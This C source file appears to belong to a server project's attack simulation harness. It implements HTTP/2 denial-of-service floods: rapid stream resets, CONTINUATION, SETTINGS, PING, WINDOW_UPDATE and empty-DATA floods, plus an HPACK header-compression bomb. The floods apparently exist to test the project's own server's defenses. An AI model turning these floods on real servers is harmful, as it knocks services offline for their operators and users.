/*
 * plays_flood.c - attacks by the number of frames. Each call appends about SIM_RAW_CHUNK bytes; the socket says when the next may come.
 */
#include <stdio.h>

#include "common/base/text.h"
#include "kudos/limits.h"
#include "sim/attack/play_hooks.h"

enum {
    TINY_STREAMS = 100,
    HOT_IN_FLIGHT = 100,
    BOMB_VALUE = 3900,
    BOMB_REFERENCES = 12000,
    COLD_IN_FLIGHT = 50,
    POLITE_IN_FLIGHT = 16,
    POLITE_PAGE = 20, /* items */
};

/* The first index of the dynamic table (RFC 7541, 2.3.3). */
enum { HPACK_NEWEST = 62 };

static bool flood_room(const sim_raw *raw)
{
    return raw->out.len < SIM_RAW_CHUNK;
}

void sim_flood_resets(sim_raw *raw)
{
    char path[KD_ITEM_KEY_MAX + 32];
    int len = snprintf(path, sizeof path, "/v1/%s/reset/counts", raw->shared->collection);
    while (flood_room(raw)) {
        sim_play_request(raw, "GET", kd_bytes_of(path, (size_t)len), SIM_FRAME_END_STREAM);
        sim_frame_reset(&raw->out, raw->stream);
    }
}

void sim_flood_continuation(sim_raw *raw)
{
    kd_buf block = {0};
    sim_hpack_literal(&block, "x-more", kd_bytes_str("and more"));
    while (flood_room(raw))
        sim_frame_put(&raw->out, SIM_FRAME_CONTINUATION, 0, raw->stream, kd_buf_view(&block));
    kd_buf_finish(&block);
}

void sim_flood_settings(sim_raw *raw)
{
    while (flood_room(raw)) sim_frame_put(&raw->out, SIM_FRAME_SETTINGS, 0, 0, kd_bytes_of(NULL, 0));
}

void sim_flood_pings(sim_raw *raw)
{
    while (flood_room(raw)) sim_frame_put(&raw->out, SIM_FRAME_PING, 0, 0, kd_bytes_str("attacker"));
}

void sim_flood_empty_data(sim_raw *raw)
{
    if (raw->opened == 0) sim_play_request(raw, "POST", kd_bytes_str("/v1/counts"), 0);
    while (flood_room(raw)) sim_frame_put(&raw->out, SIM_FRAME_DATA, 0, raw->stream, kd_bytes_of(NULL, 0));
}

/* The connection's window is wide open already and must not pass its maximum, so the updates are a stream's. */
void sim_flood_windows(sim_raw *raw)
{
    if (raw->opened == 0) sim_play_request(raw, "POST", kd_bytes_str("/v1/counts"), 0);
    while (flood_room(raw)) sim_frame_window(&raw->out, raw->stream, 1);
}

void sim_flood_tiny_begin(sim_raw *raw)
{
    kd_buf path = {0};
    sim_frame_preface(&raw->out, 1);
    sim_play_bulk_path(raw, "tiny", 0, &path);
    for (uint32_t i = 0; i < TINY_STREAMS; i++)
        sim_play_request(raw, "GET", kd_buf_view(&path), SIM_FRAME_END_STREAM);
    kd_buf_finish(&path);
}

void sim_flood_tiny(sim_raw *raw)
{
    for (uint32_t i = 0; i < TINY_STREAMS; i++) sim_frame_window(&raw->out, 2 * i + 1, 1);
}

/* The request that the server will not take for its size must be decoded all the same, for the table is the connection's. */
void sim_flood_bomb(sim_raw *raw)
{
    static char value[BOMB_VALUE];
    kd_buf block = {0};
    memset(value, 'x', sizeof value);
    sim_hpack_request(&block, "GET", raw->shared->authority, kd_bytes_str("/v1/counts"));
    if (raw->opened == 0) sim_hpack_insert(&block, "x-bomb", kd_bytes_of(value, sizeof value));
    for (uint32_t i = 0; raw->opened > 0 && i < BOMB_REFERENCES; i++) sim_hpack_indexed(&block, HPACK_NEWEST);
    raw->stream = raw->stream == 0 ? 1 : raw->stream + 2;
    raw->opened++;
    sim_frame_put(&raw->out, SIM_FRAME_HEADERS, SIM_FRAME_END_HEADERS | SIM_FRAME_END_STREAM, raw->stream,
                  kd_buf_view(&block));
    kd_buf_finish(&block);
}

void sim_flood_cold(sim_raw *raw)
{
    char word[48];
    kd_buf path = {0};
    snprintf(word, sizeof word, "cold%llu-", (unsigned long long)raw->shared->seed);
    while (flood_room(raw) && raw->opened - raw->in.ended < COLD_IN_FLIGHT) {
        sim_play_bulk_path(raw, word, raw->shared->questions, &path);
        raw->shared->questions += SIM_PLAY_BULK_ITEMS;
        sim_play_request(raw, "GET", kd_buf_view(&path), SIM_FRAME_END_STREAM);
    }
    kd_buf_finish(&path);
}

typedef void (*flood_path_fn)(const sim_raw *raw, kd_buf *path);

static void flood_hot_path(const sim_raw *raw, kd_buf *path)
{
    sim_play_bulk_path(raw, "hot", 0, path);
}

static void flood_page_path(const sim_raw *raw, kd_buf *path)
{
    sim_play_items_path(raw, "hot", 0, POLITE_PAGE, path);
}

static void flood_get_path(const sim_raw *raw, kd_buf *path)
{
    kd_text_printf(path, "/v1/%s/flood/counts", raw->shared->collection);
}

/* The path stands in the dynamic table from the first request on: a further request is some 60 bytes. */
static void flood_known_path(const sim_raw *raw, kd_buf *block, flood_path_fn path_of)
{
    kd_buf path = {0};
    if (raw->opened > 0) {
        sim_hpack_indexed(block, HPACK_NEWEST);
        return;
    }
    path_of(raw, &path);
    sim_hpack_insert(block, ":path", kd_buf_view(&path));
    kd_buf_finish(&path);
}

static void flood_known_request(sim_raw *raw, flood_path_fn path_of)
{
    kd_buf block = {0};
    sim_hpack_literal(&block, ":method", kd_bytes_str("GET"));
    sim_hpack_literal(&block, ":scheme", kd_bytes_str("http"));
    sim_hpack_literal(&block, ":authority", kd_bytes_str(raw->shared->authority));
    flood_known_path(raw, &block, path_of);
    raw->stream = raw->stream == 0 ? 1 : raw->stream + 2;
    raw->opened++;
    sim_frame_put(&raw->out, SIM_FRAME_HEADERS, SIM_FRAME_END_HEADERS | SIM_FRAME_END_STREAM, raw->stream,
                  kd_buf_view(&block));
    kd_buf_finish(&block);
}

static void flood_known(sim_raw *raw, uint32_t in_flight, flood_path_fn path_of)
{
    while (flood_room(raw) && raw->opened - raw->in.ended < in_flight) flood_known_request(raw, path_of);
}

void sim_flood_hot(sim_raw *raw)
{
    flood_known(raw, HOT_IN_FLIGHT, flood_hot_path);
}

void sim_flood_gets(sim_raw *raw)
{
    flood_known(raw, HOT_IN_FLIGHT, flood_get_path);
}

void sim_polite_pages(sim_raw *raw)
{
    flood_known(raw, POLITE_IN_FLIGHT, flood_page_path);
}

void sim_polite_gets(sim_raw *raw)
{
    flood_known(raw, POLITE_IN_FLIGHT, flood_get_path);
}
